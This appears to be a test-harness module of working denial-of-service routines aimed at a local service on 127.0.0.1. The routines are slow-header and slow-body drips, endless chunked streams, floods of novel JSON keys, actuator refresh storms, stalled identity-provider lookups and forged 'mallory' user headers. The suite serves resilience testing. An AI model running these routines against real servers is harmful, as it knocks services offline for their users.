// The attacks, each on a thread of its own, which innocents do not wait for: its data name the attack, the ports and the secret.
import net from 'node:net';
import { isMainThread, workerData } from 'node:worker_threads';

const POST = (headers) => `POST /api/users/sts HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n${headers}\r\n\r\n`;
const DRIP_MILLIS = 2000;
// Slow senders are the attack, and not a flood of connections, which would only show how fast the machine is.
const RECONNECT_MILLIS = 3000;
let serial = 0;
/** Names of 250 characters that no parser has seen, two bytes each. */
const names = (count) => Array.from({ length: count }, () => `"${String(serial++).padStart(10, '0')}${'\u0100'.repeat(240)}":1`).join(',');
const base64url = (text) => Buffer.from(text).toString('base64url');

/** Keeps so many connections open; each sends a head, then a drop at a time, and is replaced when it ends. */
function drip(port, connections, head, drop) {
  const connect = () => {
    const socket = net.connect({ port, host: '127.0.0.1' }, () => socket.write(head)).on('error', () => {}).resume();
    const timer = setInterval(() => socket.writable && socket.write(drop), DRIP_MILLIS);
    socket.on('close', () => {
      clearInterval(timer);
      setTimeout(connect, RECONNECT_MILLIS * (0.5 + Math.random()));
    });
  };
  for (let i = 0; i < connections; i++) setTimeout(connect, i % 1000);
}

/** So many connections send requests one after the other: as fast as they are answered, or after a pause. */
function flood(port, connections, request, pauseMillis = 0) {
  const connect = () => {
    const socket = net.connect({ port, host: '127.0.0.1' }, () => socket.write(request())).on('error', () => {});
    socket.on('data', () => setTimeout(() => socket.writable && socket.write(request()), pauseMillis));
    socket.on('close', () => setTimeout(connect, 20));
  };
  for (let i = 0; i < connections; i++) connect();
}

const post = (body, headers = '') => POST(`Content-Length: ${Buffer.byteLength(body)}${headers}`) + body;
const proof = (service) => `\r\nX-Gateway-Secret: ${service.secret}\r\nX-Forwarded-User: mallory`;

export const ATTACKS = {
  'new names in JSON': (s) => flood(s.port, 8, () => post(`{"identity":"a",${names(30)}}`)),
  'new names in privateClaims': (s) => flood(s.port, 8, () => post(`{"privateClaims":{${names(7)}}}`, proof(s))),
  'new names in an anonymousJwt': (s) =>
    flood(s.port, 8, () => post(`{"anonymousJwt":"${base64url(`{"alg":"HS256",${names(14)}}`)}.e30.AA"}`, proof(s))),
  'slow bodies': (s) => drip(s.port, 2500, POST('Content-Length: 900') + '{', ' '),
  'slow headers': (s) => drip(s.port, 4000, 'POST /api/users/sts HTTP/1.1\r\nHost: a\r\n', 'X: y\r\n'),
  'chunks without end': (s) => drip(s.port, 1400, POST('Transfer-Encoding: chunked') + '1\r\n{\r\n', '1\r\n \r\n'),
  'a chunk extension without end': (s) => drip(s.port, 1400, POST('Transfer-Encoding: chunked') + '1;', 'x'),
  'a trailer without end': (s) => drip(s.port, 1400, POST('Transfer-Encoding: chunked') + '0\r\nX: ', 'x'),
  'bodies after 404': (s) => drip(s.port, 1000, 'POST /no HTTP/1.1\r\nHost: a\r\nContent-Length: 999999\r\n\r\n', 'x'),
  'bodies after 405': (s) => drip(s.port, 1000, 'PUT /api/users/sts HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n', '1\r\nx\r\n'),
  'bodies after 413': (s) => drip(s.port, 1000, POST('Content-Length: 999999'), 'x'),
  'refusals without proof': (s) => flood(s.port, 16, () => post('{}')),
  'answers that nobody reads': (s) => {
    const requests = 'GET /openapi.yaml HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(50);
    for (let i = 0; i < 500; i++) net.connect({ port: s.port, host: '127.0.0.1' }).on('error', () => {}).pause().write(requests);
  },
  'refresh with 90 MB': (s) => {
    const head = 'POST /actuator/refresh HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 94371840\r\n\r\n';
    return drip(s.managementPort, 4, head + '"', 'x'.repeat(1 << 20));
  },
  'a storm of refreshes': (s) => flood(s.managementPort, 50, () => 'POST /actuator/refresh HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n', 100),
  'an identity provider that hangs': (s) =>
    flood(s.port, 8, () => {
      const header = base64url(`{"alg":"RS256","kid":"guess-${serial++}"}`);
      return post('{}', `\r\nAuthorization: Bearer ${header}.${base64url('{}')}.AAAA`);
    }),
  'output that nobody reads': (s) => flood(s.port, 8, () => post('{}', proof(s))),
};

if (!isMainThread) ATTACKS[workerData.name](workerData);
